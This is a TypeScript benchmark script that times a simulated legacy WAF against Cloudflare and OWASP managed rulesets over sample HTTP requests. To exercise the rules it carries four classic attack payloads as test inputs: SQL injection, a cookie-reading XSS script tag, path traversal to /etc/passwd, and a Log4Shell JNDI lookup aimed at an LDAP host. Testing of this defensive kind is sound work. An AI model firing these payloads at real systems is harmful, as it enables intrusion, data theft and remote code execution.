/**
 * The previous WAF in simulation (src/engine/previous-waf/simulate.ts): what one request costs, against
 * the new WAF's managed rulesets run on the same requests in the same run (the Cloudflare Managed Ruleset,
 * then the OWASP Core Ruleset at paranoia level 2: the work the previous WAF's mapping stands on).
 * Requests: the examples of examples/requests and a few attacks, round-robin over prebuilt contexts.
 * Usage: node scripts/run-bench.mjs bench/previous-waf.ts [--write]
 */
import { readdirSync, readFileSync } from 'node:fs';
import { evaluateManagedRuleset, scoreOwaspRuleset } from '../src/engine/managed/index.js';
import { evaluatePreviousWaf } from '../src/engine/previous-waf/simulate.js';
import type { PageRuleEntry, PreviousWafEntry } from '../src/engine/zone/model.js';
import { layoutFor, type RequestContext } from '../src/eval/context.js';
import { readSampleRequest } from '../src/request/index.js';
import { cloudflareScheme } from '../src/scheme/scheme.js';
import { machineDescription } from './machine.js';
import { measurePair } from './measure.js';
import { publish } from './results.js';

const machine = machineDescription();
const browser = JSON.parse(readFileSync('examples/requests/browser.json', 'utf8'));
const attacks = [
  "1' UNION SELECT username, password FROM users--",
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is ${…} text, as attackers send it
  '${jndi:ldap://198.51.100.7/a}',
].map((payload) => ({ ...browser, url: `https://example.com/search?q=${encodeURIComponent(payload)}` }));
const examples = readdirSync('examples/requests')
  .filter((name) => name.endsWith('.json'))
  .map((name) => JSON.parse(readFileSync(`examples/requests/${name}`, 'utf8')));
const contexts: RequestContext[] = [...examples, ...attacks].map((json) => {
  const read = readSampleRequest(json);
  if (!read.ok) throw new Error(JSON.stringify(read.problems));
  return layoutFor(cloudflareScheme).context(read.request);
});

/** A zone that uses everything: ten page rules and five overrides to match against each URL. */
const busy: { config: PreviousWafEntry; pageRules: PageRuleEntry[] } = {
  config: {
    packages: [{ id: 'a25a9a7e9c00afc1fb2e0245519d725b', sensitivity: 'medium', action_mode: 'block' }],
    overrides: Array.from({ length: 5 }, (_, i) => ({
      urls: [`example.com/area-${i}/*`, `www.example.com/area-${i}/*`],
      priority: i,
      groups: { ea8687e59929c1fd05ba97574ad43f77: 'disable' },
      rewrite_action: { block: 'challenge' },
    })),
  },
  pageRules: Array.from({ length: 10 }, (_, i) => ({
    targets: [
      { target: 'url' as const, constraint: { operator: 'matches', value: `example.com/old-${i}/*` } },
    ],
    actions: [{ id: 'waf', value: 'off' }],
    priority: i + 1,
    status: 'active' as const,
  })),
};

let next = 0;
const round = () => contexts[next++ % contexts.length] as RequestContext;
const managedPhase = () => {
  const context = round();
  return evaluateManagedRuleset(context).action ?? scoreOwaspRuleset(context).action;
};

const rows = [
  ['catalogue defaults', () => evaluatePreviousWaf({}, [], round())],
  ['10 page rules, 5 overrides', () => evaluatePreviousWaf(busy.config, busy.pageRules, round())],
] as const;

const lines = rows.map(([name, operation]) => {
  const { a, b, ratio } = measurePair(operation, managedPhase);
  const us = (ns: number) => `${(ns / 1000).toFixed(1)} µs`;
  return `| ${name} | ${us(a.ns)} | ±${(a.spread * 50).toFixed(0)}% | ${us(b.ns)} | ${ratio.toFixed(2)}× |`;
});

publish(`## Previous WAF simulation (bench/previous-waf.ts)

Machine: ${machine}. Date: ${new Date().toISOString().slice(0, 10)}. Command: \`node scripts/run-bench.mjs bench/previous-waf.ts --write\`.

| zone | evaluatePreviousWaf | spread | managed rulesets (baseline) | ratio |
|---|---:|---:|---:|---:|
${lines.join('\n')}

Each cell is the median of 9 windows of 150 ms, round-robin over ${contexts.length} prebuilt contexts (the
${examples.length} example requests and ${attacks.length} attacks; fields derived once, as replay shares a
context between stages); the baseline runs the Cloudflare Managed Ruleset and the OWASP Core Ruleset
(paranoia level 2) on the same contexts in alternating windows, and the ratio is the median of the
per-pair ratios. The previous WAF runs the managed rules its rules map to plus the whole OWASP ruleset to
score, builds its trace, and compiles each URL pattern once (then matches the cached filter).
`);
